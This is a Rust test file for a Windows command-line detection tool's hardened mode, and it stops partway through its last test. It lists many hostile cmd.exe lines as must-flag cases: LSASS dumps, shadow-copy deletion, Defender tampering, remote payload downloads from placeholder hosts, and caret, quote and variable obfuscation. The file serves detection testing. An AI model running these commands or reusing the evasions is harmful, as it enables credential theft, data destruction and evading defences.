//! Hardened mode: every evasion class, both ways (must flag, must not), the
//! browser native-messaging trap on the real export, and parity rows that
//! hardened mode leaves exactly as they were.

mod common;

use std::collections::BTreeSet;

use cmdhunt_core::event::{ProcessEvent, Record, RecordClass, RecordSink, Skip};
use cmdhunt_core::format::{sniff, SNIFF_BYTES};
use cmdhunt_core::hardened::rules::{RENAMED_ID, RULES};
use cmdhunt_core::hardened::{all_rules, Detection, Evasions, HardenedRules};
use cmdhunt_core::matcher::CompiledRule;
use cmdhunt_core::rule::SUSPICIOUS_PATTERNS;
use cmdhunt_core::scan::{FileScan, FileSummary, FlaggedRow};

use common::{read, shared};

/// `cmd.exe` command lines: (line, the rules that must fire; empty = none).
/// One line per case; the comment names the class.
const SHELL: &[(&str, &[&str])] = &[
    // `.exe` and path-qualified tool names
    (
        r#"cmd /c "vssadmin.exe delete shadows /all /quiet""#,
        &["vssadmin-delete"],
    ),
    (
        r"cmd /c wmic.exe shadowcopy delete",
        &["wmic-shadowcopy-delete"],
    ),
    (
        r#"cmd /c "bcdedit.exe /set {default} recoveryenabled no""#,
        &["bcdedit-set"],
    ),
    (
        r"cmd /c C:\Windows\System32\bitsadmin.exe /transfer j https://x/a.exe C:\a.exe",
        &["bitsadmin-job"],
    ),
    (
        r#"cmd /c "REG.exe ADD HKCU\Environment /v UserInitMprLogonScript /d x""#,
        &["reg-modify"],
    ),
    (
        r"cmd /c %SystemRoot%\system32\schtasks.exe /create /tn t /tr x",
        &["schtasks-create"],
    ),
    // arguments between the tool and the verb
    (
        r"cmd /c net user $ ATOMIC123! /add /active:yes",
        &["net-user-add"],
    ),
    (
        r"cmd /c icacls.exe C:\x /grant Everyone:F",
        &["icacls-grant"],
    ),
    (
        r#"cmd /c wmic /node:"localhost" process call create "calc.exe""#,
        &["wmic-process-create"],
    ),
    (
        r"cmd /c certutil -f -decode fi.b64 a.dll",
        &["certutil-codec"],
    ),
    (
        r"cmd /c certutil.exe -urlcache -split -f http://x/a a",
        &["certutil-download"],
    ),
    (
        r"cmd /c takeown.exe /F C:\Windows\System32\sethc.exe",
        &["takeown"],
    ),
    // verbs the parity list lacks
    (r"cmd /c wbadmin delete catalog -quiet", &["wbadmin-delete"]),
    (r"cmd /c echo x > \\.\pipe\HighPriv", &["pipe-write"]),
    (
        r"C:\Windows\system32\cmd.exe echo /c b6a1458f396 > \\.\pipe\334485",
        &["pipe-write"],
    ),
    (
        r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1619425227.89 2>&1",
        &["admin-share-output"],
    ),
    (r"cmd /c reg save HKLM\SAM sam.hive", &["reg-modify"]),
    (
        r"cmd /c sc create svc binPath= C:\Users\Public\s.exe",
        &["sc-service"],
    ),
    (r"cmd /c netsh f s o d", &["netsh-tamper"]),
    (r"cmd /c wevtutil cl Security", &["log-tamper"]),
    (
        r"cmd /c procdump.exe -accepteula -ma lsass.exe l.dmp",
        &["lsass-dump"],
    ),
    (
        r"cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\NTDS.dit C:\x\ntds.dit",
        &["credential-copy"],
    ),
    (
        r#"cmd /c ntdsutil "ac i ntds" "ifm" "create full c:\x" q q"#,
        &["ntds-dump"],
    ),
    (r"cmd /c diskshadow.exe /s shadow.txt", &["ntds-dump"]),
    (
        r"cmd /c sc config WinDefend start= disabled",
        &["security-service-stop"],
    ),
    (r"cmd /c sc \\fs02\ stop sense", &["security-service-stop"]),
    (
        r"cmd /c netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.0.0.1",
        &["netsh-tamper"],
    ),
    (
        r"cmd /c auditpol /set /category:* /success:disable",
        &["log-tamper"],
    ),
    (
        r"cmd /c forfiles /p c:\windows\system32 /m notepad.exe /c calc.exe",
        &["forfiles-exec"],
    ),
    (r"cmd /c at 13:20 /interactive cmd", &["at-schedule"]),
    (r"cmd /c fltmc.exe unload SysmonDrv", &["fltmc-unload"]),
    (
        r"cmd /c dnscmd /config /serverlevelplugindll C:\x\m.dll",
        &["dnscmd-plugin"],
    ),
    (
        r#"cmd /c powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true""#,
        &["defender-tamper"],
    ),
    (
        r#"cmd /c powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://x/a')""#,
        &["powershell-encoded"],
    ),
    (
        r"cmd /c powershell -nop -e SQBFAFgA",
        &["powershell-encoded"],
    ),
    (
        r"cmd /c cscript /b C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs h script:https://x/a.sct",
        &["script-host-remote"],
    ),
    (
        r"cmd /c C:\Users\u\AppData\Local\Temp\tcm.tmp -decode c:\file.exe file.txt",
        &["certutil-renamed"],
    ),
    // more behaviour classes
    (
        r"cmd /c copy %SystemRoot%\System32\cmd.exe %SystemRoot%\Temp\lsass.exe & %SystemRoot%\Temp\lsass.exe /B",
        &["binary-copy"],
    ),
    (
        r"cmd /c copy C:\Windows\system32\certutil.exe C:\Users\u\AppData\Local\Temp\tcm.tmp",
        &["binary-copy"],
    ),
    (
        r"cmd /c curl -k https://x/a.dll -o c:\users\public\music\a.dll",
        &["curl-download"],
    ),
    (
        r"cmd /c net use \\Target\C$ P@ssw0rd1 /u:DOMAIN\Administrator",
        &["admin-share-logon"],
    ),
    (
        r"cmd /c copy C:\Windows\System32\cmd.exe C:\Windows\System32\sethc.exe",
        &["binary-copy", "accessibility-hijack"],
    ),
    (
        r"cmd /c mklink C:\Windows\System32\osk.exe C:\Windows\System32\cmd.exe",
        &["accessibility-hijack"],
    ),
    (
        r"cmd /c conhost.exe --headless powershell calc",
        &["conhost-proxy"],
    ),
    (
        r#"cmd /r cmd<"C:\x\t1059.003_cmd.cmd""#,
        &["cmd-stdin-script"],
    ),
    (
        r#"cmd /c cd /d C:\x & echo Set o = CreateObject("WScript.Shell") > AtomicTest.vbs & AtomicTest.vbs"#,
        &["script-drop"],
    ),
    (
        r#"cmd /c echo start calc > "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\b.bat""#,
        &["script-drop"],
    ),
    (
        r#"cmd /c copy C:\x\b.bat "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup\b.bat""#,
        &["script-drop"],
    ),
    (
        r"cmd /c type C:\temp\evil.exe > C:\temp\file.txt:evil.exe",
        &["ads-write"],
    ),
    (r"cmd /c net stop WinDefend", &["security-service-stop"]),
    (r"cmd /c vssadmin.exe create shadow /for=C:", &["ntds-dump"]),
    (
        r"cmd /c wmic shadowcopy call create Volume=C:\",
        &["ntds-dump"],
    ),
    (
        r#"cmd /c net group "domain admins" /domain"#,
        &["net-admin-group"],
    ),
    (
        r"cmd /c esentutl.exe /y /vss %SystemRoot%/system32/config/SAM /d %temp%/SAM",
        &["credential-copy"],
    ),
    (
        r"cmd /c InfDefaultInstall.exe C:\x\Infdefaultinstall.inf",
        &["cmstp-inf"],
    ),
    (
        r"cmd /c rundll32.exe C:\AtomicTests\bin\calc.dll,StartW",
        &["rundll32-proxy"],
    ),
    (
        r"cmd /c regsvr32.exe /s D:\drop\payload.dll",
        &["regsvr32-scriptlet"],
    ),
    (r"cmd /c fsutil usn deletejournal /D C:", &["log-tamper"]),
    (
        r#"cmd /c set "SYSTEMROOT=C:\Windows\Temp" && cmd /c desktopimgdownldr.exe /lockscreenurl:https://x/a.exe /eventName:desktopimgdownldr"#,
        &["lolbin-download"],
    ),
    (
        r"cmd /c expand \\fileserver\drop\a.cab C:\x\a.exe",
        &["lolbin-download"],
    ),
    (
        r#"cmd /c findstr /si pass *.xml *.doc *.txt"#,
        &["credential-search"],
    ),
    (
        r"cmd /c netsh wlan show profile name=corp key=clear",
        &["credential-search"],
    ),
    (
        r"cmd /c createdump.exe -u -f C:\x\lsass.dmp 624",
        &["lsass-dump"],
    ),
    (
        r"cmd /c rdrleakdiag.exe /p 624 /o C:\x /fullmemdmp /wait 1",
        &["lsass-dump"],
    ),
    (
        r"cmd /c mklink /D C:\x\shadow \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\",
        &["credential-copy"],
    ),
    (
        r"cmd /c rundll32.exe desk.cpl,InstallScreenSaver C:\x\a.scr",
        &["rundll32-proxy"],
    ),
    (r"cmd /c cacls C:\x /e /g everyone:f", &["icacls-grant"]),
    (
        r"cmd /c reg query HKLM /f password /t REG_SZ /s",
        &["credential-search"],
    ),
    (
        r#"cmd /c vaultcmd /listcreds:"Windows Credentials" /all"#,
        &["credential-search"],
    ),
    (
        r"cmd /c mavinject.exe 1000 /INJECTRUNNING C:\x\a.dll",
        &["mavinject-dll"],
    ),
    (r"cmd /c assoc .hta=txtfile", &["assoc-change"]),
    (
        r"cmd /c sdbinst.exe C:\x\AtomicShimx86.sdb",
        &["shim-install"],
    ),
    (r"cmd /c fodhelper.exe", &["uac-bypass-launch"]),
    (r"cmd /c tscon 2 /dest:rdp-tcp#8", &["rdp-hijack"]),
    // LOLBins written in the shell line
    (
        r#"cmd /c rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)"#,
        &["rundll32-proxy"],
    ),
    (
        r"cmd /c regsvr32 /s /u /i:https://x/a.sct scrobj.dll",
        &["regsvr32-scriptlet"],
    ),
    (r"cmd /c start /b mshta https://x/a", &["mshta-script"]),
    (r"cmd /c cmstp.exe /ni /s C:\x\a.inf", &["cmstp-inf"]),
    (r"cmd /c hh.exe https://x/a.chm", &["hh-remote"]),
    (r"cmd /c msiexec /q /i http://x/a.msi", &["msiexec-remote"]),
    (r"cmd /c odbcconf /a {regsvr C:\x\a.dll}", &["odbcconf-dll"]),
    (r"cmd /c pcalua.exe -a calc.exe", &["pcalua-exec"]),
    (
        r"cmd /c C:\Windows\Microsoft.NET\Framework\v4.0.30319\InstallUtil.exe /logfile= /U a.dll",
        &["dotnet-proxy"],
    ),
    (r"cmd /c msxsl.exe a.xml a.xsl", &["msxsl-script"]),
    (
        r#"cmd /c wmic process get brief /format:"https://x/a.xsl""#,
        &["wmic-xsl"],
    ),
    (
        r"cmd /c net localgroup administrators",
        &["net-admin-group"],
    ),
    // carets
    (
        r"cmd /c n^e^t u^se^r bob pw /add",
        &["net-user-add", "obfuscated-command"],
    ),
    (
        r"cmd /c r^eg a^dd HKCU\x /v y",
        &["reg-modify", "obfuscated-command"],
    ),
    // quotes inside tokens
    (
        r#"cmd /c net localgroup "Administrators" bob /add"#,
        &["net-user-add", "net-admin-group"],
    ),
    (
        r#"cmd /c s"c"htasks /create /tn t /tr x"#,
        &["schtasks-create", "obfuscated-command"],
    ),
    // whitespace runs and tabs
    ("cmd /c reg  \t add HKCU\\x", &["reg-modify"]),
    // Unicode dashes and / <-> - switch forms
    (
        "cmd /c certutil \u{2013}urlcache \u{2013}f http://x/a a",
        &["certutil-download"],
    ),
    ("cmd /c schtasks \u{2014}create /tn t", &["schtasks-create"]),
    (
        r"cmd /c certutil /urlcache /f http://x/a a",
        &["certutil-download"],
    ),
    (
        r"cmd /c bitsadmin -transfer j http://x/a C:\a",
        &["bitsadmin-job"],
    ),
    // environment-variable substring tricks
    (
        r"%LOCALAPPDATA:~-3,1%md /c echo hi > out.txt & type out.txt",
        &[],
    ),
    (
        r"cmd /c %LOCALAPPDATA:~-3,1%md /c echo hi > out.txt & type out.txt",
        &["obfuscated-command"],
    ),
    (
        r"cmd /c %ProgramFiles:~4,1%%COMSPEC:~-1%%ProgramFiles:~6,1% add HKCU\x",
        &["reg-modify", "obfuscated-command"],
    ),
    (
        r"cmd /c %COMSPEC:~-7,3% /c vssadmin delete shadows",
        &["vssadmin-delete", "obfuscated-command"],
    ),
    // a letter of the user name is unknowable: left as written, not guessed
    (r"cmd /c %USERPROFILE:~9,1%et user x y /add", &[]),
    // delayed expansion and same-line variables
    (
        r#"cmd /v:on /c "set a=ne&& set b=t&& !a!!b! user x y /add""#,
        &["net-user-add", "obfuscated-command"],
    ),
    (
        r#"cmd /c "set x=vssadmin&& call %x% delete shadows /all""#,
        &["vssadmin-delete", "obfuscated-command"],
    ),
    // nesting
    (r#"cmd /c "cmd /c "reg.exe add HKCU\x"""#, &["reg-modify"]),
    (
        r"cmd /c if exist C:\x (reg.exe add HKCU\x) else (echo no)",
        &["reg-modify"],
    ),
    // --- must NOT fire: benign admin and desktop lines ---
    (
        r#"cmd.exe /d /c "C:\Program Files (x86)\Adobe\Acrobat DC\Acrobat\Browser\WCChromeExtn\WCChromeNativeMessagingHost.exe" chrome-extension://efaidnbmnnnibpcajpcglclefindmkaj/ --parent-window=0 < \\.\pipe\chrome.nativeMessaging.in.3192c70b6ac98f93 > \\.\pipe\chrome.nativeMessaging.out.3192c70b6ac98f93"#,
        &[],
    ),
    (
        r#"C:\WINDOWS\system32\cmd.exe /d /c "C:\Users\u\AppData\Local\Google\Chrome\host.exe" chrome-extension://abc/ < \\.\pipe\chrome.nativeMessaging.in.1 > \\.\pipe\chrome.nativeMessaging.out.1"#,
        &[],
    ),
    (
        r"cmd /c reg query HKLM\Software\Microsoft\Windows\CurrentVersion\Run",
        &[],
    ),
    (r"cmd /c net user bob /domain", &[]),
    (r"cmd /c net localgroup", &[]),
    (r"cmd /c icacls C:\data", &[]),
    (r"cmd /c schtasks /query /fo LIST", &[]),
    (r"cmd /c vssadmin list shadows", &[]),
    (r"cmd /c bcdedit /enum", &[]),
    (r"cmd /c wmic process get name,processid", &[]),
    (r"cmd /c wmic process list /format:csv", &[]),
    (r"cmd /c certutil -addstore -f root C:\x\ca.cer", &[]),
    (r"cmd /c bitsadmin /list /allusers", &[]),
    (
        r"cmd /c rundll32.exe printui.dll,PrintUIEntry /in /n\\printsrv\floor2",
        &[],
    ),
    (r"cmd /c rundll32 shell32.dll,Control_RunDLL desk.cpl", &[]),
    (
        r#"cmd /c regsvr32 /s "C:\Program Files\Vendor\plugin.dll""#,
        &[],
    ),
    (r"cmd /c msiexec /i C:\Temp\agent.msi /qn", &[]),
    (r"cmd /c hh.exe C:\Windows\Help\mmc.chm", &[]),
    (r"cmd /c ping -n 1 -w 500 127.0.0.1 > nul", &[]),
    (
        r#"cmd /c for /f "tokens=*" %i in ('dir /b') do echo %i"#,
        &[],
    ),
    (
        r#"cmd /c forfiles /p C:\logs /d -30 /c "cmd /c del @path""#,
        &[],
    ),
    (r"cmd /c sc query WinDefend", &[]),
    (r#"cmd /c "C:\Program Files\Git\cmd\git.exe" status"#, &[]),
    (
        r#"cmd /c schtasks /run /tn "\Microsoft\Windows\Defrag\ScheduledDefrag""#,
        &[],
    ),
    (
        r"cmd /c reg export HKLM\Software\Vendor C:\backup\vendor.reg",
        &[],
    ),
    (r"cmd /c wmic os get caption,version", &[]),
    (
        r#"cmd /c powershell -NoProfile -ExecutionPolicy Bypass -Command "Get-Service""#,
        &[],
    ),
    (
        r"cmd /c msiexec /x {12345678-1234-1234-1234-123456789012} /qn",
        &[],
    ),
    (r"cmd /c regsvr32 /s C:\Windows\System32\vbscript.dll", &[]),
    (
        r"cmd /c rundll32 C:\Windows\System32\user32.dll,LockWorkStation",
        &[],
    ),
    (r"cmd /c copy \\server\share\setup.exe C:\temp\", &[]),
    (r"cmd /c net user", &[]),
    (r"cmd /c assoc .txt", &[]),
    (r"cmd /c cacls C:\x", &[]),
    (r"cmd /c reg query HKLM\Software\Vendor /s", &[]),
    (r"cmd /c tscon /?", &[]),
    (
        r#"cmd /c rundll32 "C:\Program Files\Vendor\app.dll",Setup"#,
        &[],
    ),
    (
        r"cmd /c rundll32 C:\Windows\System32\shell32.dll,Control_RunDLL desk.cpl",
        &[],
    ),
    (r"cmd /c fsutil fsinfo drives", &[]),
    (r"cmd /c expand C:\x\a.cab -F:* C:\x", &[]),
    (r"cmd /c findstr /s TODO *.cs", &[]),
    (r"cmd /c copy C:\Windows\System32\cmd.exe C:\tools\", &[]),
    (
        r"cmd /c copy C:\Windows\System32\drivers\etc\hosts C:\backup\hosts.txt",
        &[],
    ),
    (
        r"cmd /c curl -o C:\build\report.txt https://ci.example.com/report.txt",
        &[],
    ),
    (r"cmd /c curl https://example.com/api/status", &[]),
    (
        r"cmd /c net use Z: \\fileserver\projects /persistent:yes",
        &[],
    ),
    (r"cmd /c net stop Spooler", &[]),
    (r"cmd /c echo {} > C:\build\out.json", &[]),
    (r"cmd /c echo done > C:\logs\run.log 2>&1", &[]),
    (r"cmd /c vssadmin list shadowstorage", &[]),
    (r#"cmd /c "echo ATOMIC > %%windir%%\cert.key""#, &[]),
    (r#"cmd /c net group "Domain Users" /domain"#, &[]),
    (
        r#"cmd /c forfiles /p C:\logs /c "C:\Windows\System32\cmd.exe /c del @path""#,
        &[],
    ),
    (r"cmd /c forfiles /p C:\logs /d -7 /c @del", &[]),
    (r"cmd /c sc config wuauserv start= disabled", &[]),
    (r"cmd /c sc stop Spooler", &[]),
    (r"cmd /c xcopy /s /e C:\data D:\backup", &[]),
    (r"cmd /c robocopy C:\src D:\dst /s /mir", &[]),
    (
        r"cmd /c copy C:\Windows\System32\config\systemprofile\x.txt C:\y",
        &[],
    ),
    (r"cmd /c wevtutil qe Security /c:5", &[]),
    (r"cmd /c netsh interface ip show config", &[]),
    (r"cmd /c netsh advfirewall show allprofiles state", &[]),
    (
        r"cmd /c powershell -ExecutionPolicy Bypass -File C:\scripts\inventory.ps1",
        &[],
    ),
    (r"cmd /c echo %date:~-4%%date:~4,2% > stamp.txt", &[]),
    (r#"cmd /c "echo ^<html^> > C:\x\a.html""#, &[]),
    (r"cmd /c echo done > \\fileserver\logs\run.txt", &[]),
    (r"cmd /c copy C:\data\report.docx \\fileserver\share\", &[]),
    (
        r#"C:\WINDOWS\system32\cmd.exe /d /s /c "npm run build""#,
        &[],
    ),
    (r"cmd /c %windir%\system32\ipconfig.exe /all", &[]),
    (r"cmd.exe /c C:\Users\u\AppData\Local\Temp\setup.bat", &[]),
    (r"cmd.exe", &[]),
];

/// Processes started by `cmd.exe`: (image, OriginalFileName, command line, rules).
const CHILD: &[(&str, Option<&str>, &str, &[&str])] = &[
    (
        "rundll32.exe",
        None,
        r"rundll32.exe advpack.dll,LaunchINFSection C:\x\a.inf,DefaultInstall_SingleUser,1,",
        &["rundll32-proxy"],
    ),
    (
        "rundll32.exe",
        None,
        r"rundll32.exe C:\Users\u\AppData\Local\Temp\socks.dat,#1 key",
        &["rundll32-proxy"],
    ),
    (
        "rundll32.exe",
        None,
        r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\x\l.dmp full",
        &["rundll32-proxy"],
    ),
    (
        "cmstp.exe",
        None,
        r"cmstp.exe /s C:\x\a.inf",
        &["cmstp-inf"],
    ),
    ("hh.exe", None, r"hh.exe https://x/a.chm", &["hh-remote"]),
    (
        "reg.exe",
        None,
        r#"reg  add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v x /d y /f"#,
        &["reg-modify"],
    ),
    ("net1.exe", None, r"net1  user x y /add", &["net-user-add"]),
    (
        "WMIC.exe",
        Some("wmic.exe"),
        r#"wmic  /node:"127.0.0.1" process call create "rundll32 x""#,
        &["wmic-process-create"],
    ),
    (
        "certutil.exe",
        Some("CertUtil.exe"),
        r"certutil.exe  -urlcache -f http://x/a a",
        &["certutil-download"],
    ),
    (
        "mshta.exe",
        None,
        r#"mshta  vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""x"":close")"#,
        &["mshta-script"],
    ),
    // renamed copies, by OriginalFileName
    (
        "svc.exe",
        Some("CertUtil.exe"),
        r"svc.exe  -urlcache -f http://x/a a",
        &["certutil-download", RENAMED_ID],
    ),
    (
        "renamed-curl.exe",
        Some("curl.exe"),
        r"renamed-curl.exe",
        &[RENAMED_ID],
    ),
    (
        "update.exe",
        Some("Cmd.Exe"),
        r"update.exe /c reg.exe add HKCU\x",
        &["reg-modify", RENAMED_ID],
    ),
    // must NOT fire
    (
        "WCChromeNativeMessagingHost.exe",
        None,
        r#""WCChromeNativeMessagingHost.exe"  chrome-extension://x/ --parent-window=0"#,
        &[],
    ),
    (
        "WMIC.exe",
        Some("wmic.exe"),
        r"wmic  qfe get description,installedOn /format:csv",
        &[],
    ),
    ("reg.exe", Some("reg.exe"), r"reg  query HKLM\x /v y", &[]),
    (
        "PING.EXE",
        Some("ping.exe"),
        r"ping  -n 1 -w 100 192.168.1.1",
        &[],
    ),
    ("gpresult.exe", Some("gprslt.exe"), r"gpresult  /z", &[]),
    (
        "PsExec64.exe",
        Some("psexec.c"),
        r"PsExec64.exe  -i -s cmd",
        &[],
    ),
    (
        "conhost.exe",
        None,
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        &[],
    ),
    ("mshta.exe", None, r"mshta.exe", &[]),
    (
        "conhost.exe",
        None,
        r"C:\Windows\System32\conhost.exe --headless --width 120 --height 30 --signal 0x5a4 --server 0x5a0",
        &[],
    ),
    (
        "conhost.exe",
        None,
        r"\??\C:\WINDOWS\system32\conhost.exe 0x4",
        &[],
    ),
    (
        "conhost.exe",
        None,
        r"conhost.exe calc.exe",
        &["conhost-proxy"],
    ),
    (
        "certutil.exe",
        None,
        r"certutil  -hashfile C:\x\a.iso SHA256",
        &[],
    ),
];

fn ids(hit: &cmdhunt_core::hardened::HardenedHit) -> Vec<&'static str> {
    hit.ids().collect()
}

#[test]
fn shell_lines_fire_exactly_the_expected_rules() {
    let rules = HardenedRules::new();
    let mut failures = Vec::new();
    for (line, want) in SHELL {
        let got = ids(&rules.shell(line));
        let mut want: Vec<&str> = want.to_vec();
        want.sort_by_key(|id| all_rules().position(|r| r.id == *id));
        if got != want {
            failures.push(format!("{line}\n    want {want:?}\n    got  {got:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn child_processes_fire_exactly_the_expected_rules() {
    let rules = HardenedRules::new();
    let mut failures = Vec::new();
    for (image, original, line, want) in CHILD {
        let got = ids(&rules.child(image, *original, line));
        let mut want: Vec<&str> = want.to_vec();
        want.sort_by_key(|id| all_rules().position(|r| r.id == *id));
        if got != want {
            failures.push(format!(
                "{image} {original:?} {line}\n    want {want:?}\n    got  {got:?}"
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn every_rule_has_a_case_that_fires_it() {
    let fired: BTreeSet<&str> = SHELL
        .iter()
        .flat_map(|(_, w)| w.iter().copied())
        .chain(CHILD.iter().flat_map(|(_, _, _, w)| w.iter().copied()))
        .collect();
    let missing: Vec<&str> = all_rules()
        .map(|r| r.id)
        .filter(|id| !fired.contains(id))
        .collect();
    assert!(
        missing.is_empty(),
        "rules without a must-flag case: {missing:?}"
    );
}

#[test]
fn evasions_are_named_on_the_hit() {
    let rules = HardenedRules::new();
    let cases: &[(&str, Evasions)] = &[
        (r"cmd /c n^e^t u^se^r bob pw /add", Evasions::CARETS),
        (r#"cmd /c s"c"htasks /create /tn t"#, Evasions::QUOTES),
        (
            r"cmd /c %COMSPEC:~-7,3% /c vssadmin delete shadows",
            Evasions::ENV_SUBSTRING,
        ),
        (
            r#"cmd /v:on /c "set a=ne&& set b=t&& !a!!b! user x y /add""#,
            Evasions::VARIABLES,
        ),
        (
            "cmd /c certutil \u{2013}urlcache \u{2013}f http://x/a a",
            Evasions::UNICODE_DASH,
        ),
        (r"cmd /c reg.exe add HKCU\x", Evasions(0)),
    ];
    for (line, want) in cases {
        assert_eq!(rules.shell(line).evasions, *want, "{line}");
    }
    let renamed = rules.child(
        "svc.exe",
        Some("CertUtil.exe"),
        "svc.exe -urlcache -f http://x/a a",
    );
    assert!(renamed.evasions.contains(Evasions::RENAMED));
    assert_eq!(renamed.original_file_name, "CertUtil.exe");
}

#[test]
fn rules_are_well_formed_data() {
    let mut seen = BTreeSet::new();
    for r in all_rules() {
        assert!(seen.insert(r.id), "duplicate id {}", r.id);
        assert!(!r.name.is_empty() && !r.why.is_empty(), "{}", r.id);
        assert!(r.technique.starts_with('T'), "{}", r.id);
        for t in r.tools {
            assert_eq!(
                *t,
                cmdhunt_core::hardened::normalise::tool_name(t),
                "{}: tool {t} is not canonical",
                r.id
            );
        }
        if let Some(p) = r.generalises {
            assert!(
                SUSPICIOUS_PATTERNS.iter().any(|n| n.value == p),
                "{}: {p} is not a parity pattern",
                r.id
            );
        }
    }
    assert!(
        RULES.len() < 64,
        "a RuleSet holds 64 rules with the renamed one"
    );
}

fn scan(path: &str, hardened: bool) -> (FileSummary, Vec<FlaggedRow>) {
    let (rule, rules) = (CompiledRule::new(), HardenedRules::new());
    let bytes = read(&shared(path));
    let mut s = FileScan::new(&rule, 0, path, None);
    if hardened {
        s = s.hardened(&rules);
    }
    for chunk in bytes.chunks(64 << 10) {
        s.push(chunk);
    }
    s.finish()
}

/// Chrome and Acrobat native messaging: `cmd /d /c host.exe ... < \\.\pipe\in
/// > \\.\pipe\out` on every desktop. A naive pipe rule flags them.
#[test]
fn chrome_native_messaging_pipe_rows_stay_unflagged() {
    let path = "defender/mde_proc_cs1.csv";
    let (_, rows) = scan(path, true);
    // The export holds them: four cmd.exe rows bridging a host to two pipes,
    // and the four hosts they start.
    let events = process_events(path);
    let shells = events
        .iter()
        .filter(|e| e.file_name == "cmd.exe")
        .filter(|e| {
            e.process_command_line
                .contains(r"< \\.\pipe\chrome.nativeMessaging.in")
        })
        .count();
    let hosts = events
        .iter()
        .filter(|e| e.file_name == "WCChromeNativeMessagingHost.exe")
        .filter(|e| e.initiating_process_file_name == "cmd.exe")
        .count();
    assert_eq!(
        (shells, hosts),
        (4, 4),
        "the export's native-messaging rows"
    );
    let flagged: Vec<&str> = rows
        .iter()
        .filter(|r| {
            r.event.process_command_line.contains("nativeMessaging")
                || r.event.file_name.contains("NativeMessaging")
        })
        .map(|r| r.event.process_command_line.as_str())
        .collect();
    assert!(flagged.is_empty(), "native messaging flagged: {flagged:#?}");
    // ...while the same file's attack rows are flagged by hardened mode.
    assert!(rows
        .iter()
        .any(|r| r.detection == Detection::Hardened
            && r.hardened.ids().any(|id| id == "mshta-script")));
}

/// Every process creation of a file, as projected events.
fn process_events(path: &str) -> Vec<ProcessEvent> {
    struct Events(Vec<ProcessEvent>);
    impl RecordSink for Events {
        fn record(&mut self, record: &dyn Record) {
            if record.class() == RecordClass::ProcessCreation {
                self.0.push(record.event());
            }
        }
        fn skip(&mut self, _: Skip) {}
    }
    let bytes = read(&shared(path));
    let format = sniff(&bytes[..bytes.len().min(SNIFF_BYTES)]).expect("a known format");
    let mut sink = Events(Vec::new());
    let mut decoder = format.decoder();
    decoder.push(&bytes, &mut sink).expect("decodes");
    decoder.finish(&mut sink).expect("decodes");
    sink.0
}

/// Background activity with cmd.exe (VMware Tools batch files, `ping -n 6`
/// delays as children of cmd.exe) stays silent in hardened mode.
#[test]
fn background_cmd_activity_flags_nothing() {
    let path = "evtx-samples/samples/sysmon.evtx";
    let events = process_events(path);
    let children = events
        .iter()
        .filter(|e| {
            e.initiating_process_file_name
                .eq_ignore_ascii_case("cmd.exe")
        })
        .count();
    let shells = events
        .iter()
        .filter(|e| e.file_name.eq_ignore_ascii_case("cmd.exe"))
        .count();
    assert!(
        children > 100 && shells > 0,
        "{children} children, {shells} shells"
    );
    let (_, rows) = scan(path, true);
    assert!(rows.is_empty(), "{rows:#?}");
}

/// The benign exports stay silent in hardened mode.
#[test]
fn benign_exports_flag_nothing() {
    for path in [
        "defender/advanced_hunting_test.csv",
        "defender/Microsoft365DefenderEvents.json",
    ] {
        let (summary, rows) = scan(path, true);
        assert!(summary.records > 0, "{path} was read");
        assert!(rows.is_empty(), "{path}: {rows:#?}");
    }
}

/// Hardened mode adds rows; the parity rows, their order and every count are
/// exactly parity mode's.
#[test]
fn hardened_mode_keeps_parity_rows_and_counts_identical() {
    let files = [
        "defender/mde_proc_cs1.csv",
        "defender/processes_on_host.csv",
        "sysmon-evtx/AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx",
        "sysmon-evtx/AutomatedTestingTools/panache_sysmon_vs_EDRTestingScript.evtx",
        "otrf/schtask_create_2020-12-1907003032.json",
        "security-4688/TA0002-Execution/T1059.003-Windows Command Shell/ID4688-SQL Server payload injectection for reverse shell (MSF).evtx",
        "xml/PanacheSysmon_vs_AtomicRedTeam01.events.xml",
    ];
    let mut extra = 0;
    for path in files {
        if !shared(path).exists() {
            panic!("{path} missing from ../shared/data");
        }
        let (parity_summary, parity_rows) = scan(path, false);
        let (hardened_summary, hardened_rows) = scan(path, true);
        assert_eq!(parity_summary, hardened_summary, "{path}: summary");
        assert!(
            parity_rows
                .iter()
                .all(|r| r.detection == Detection::Parity && !r.hardened.fired()),
            "{path}"
        );
        let kept: Vec<&FlaggedRow> = hardened_rows
            .iter()
            .filter(|r| r.detection == Detection::Parity)
            .collect();
        assert_eq!(kept.len(), parity_rows.len(), "{path}: parity rows");
        for (h, p) in kept.iter().zip(&parity_rows) {
            assert_eq!(
                (&h.event, &h.verdict, h.position, &h.fields),
                (&p.event, &p.verdict, p.position, &p.fields),
                "{path}"
            );
        }
        for r in hardened_rows
            .iter()
            .filter(|r| r.detection == Detection::Hardened)
        {
            assert!(
                r.hardened.fired() && !r.verdict.is_flagged(),
                "{path}: {r:#?}"
            );
        }
        extra += hardened_rows.len() - kept.len();
    }
    assert!(extra > 0, "hardened mode added no row on the attack files");
}

/// The README's "Hardened mode" table lists every rule, with its technique,
/// in rule order, and nothing else.
#[test]
fn readme_lists_every_hardened_rule() {
    let readme = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../README.md"))
        .expect("README.md");
    let section = readme
        .split("## Hardened mode")
        .nth(1)
        .and_then(|s| s.split("\n## ").next())
        .expect("a Hardened mode section");
    let listed: Vec<(&str, &str)> = section
        .lines()
        .filter(|l| l.starts_with("| `"))
        .filter_map(|l| {
